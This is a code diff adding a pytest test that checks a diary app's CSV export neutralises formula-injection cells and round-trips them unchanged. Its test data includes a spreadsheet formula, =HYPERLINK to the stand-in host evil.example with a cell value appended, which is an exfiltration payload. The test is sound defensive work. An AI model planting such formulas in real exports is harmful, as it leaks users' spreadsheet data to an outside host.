@@ -116,3 +116,25 @@ def test_awkward_free_text_survives_csv(notes):
     d = Diary(entries=[DiaryEntry(date="2026-01-01", notes=notes,
                                   events=[{"kind": "other", "description": notes}])])
     assert from_csv(to_csv(d)) == d
+
+
+FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"click")', "@SUM(A1:A9)", "+1+1", "-2+3", "\tindented",
+            "\rreturn", "'=already quoted", "''@twice", "'plain quote", "a = b", "=", "'"]
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_csv_cells_that_spreadsheets_run_as_formulas_are_neutralised_and_come_back_unchanged(text):
+    """Issue 12, item 8: CSV formula injection in diary exports (OWASP: quote = + - @ tab CR)."""
+    import csv
+    import datetime as dt
+    import io
+
+    from plexnav.diary.exchange import FORMULA_START, from_csv, to_csv
+    from plexnav.diary.models import Diary, DiaryEntry
+    diary = Diary(entries=[DiaryEntry(date=dt.date(2026, 1, 5), notes=text,
+                                      medication_changes=[{"medication": text, "change": "started"}],
+                                      events=[{"kind": "other", "description": text}])])
+    exported = to_csv(diary)
+    for row in csv.reader(io.StringIO(exported, newline="")):
+        assert not any(cell.startswith(FORMULA_START) for cell in row), row
+    assert from_csv(exported) == diary
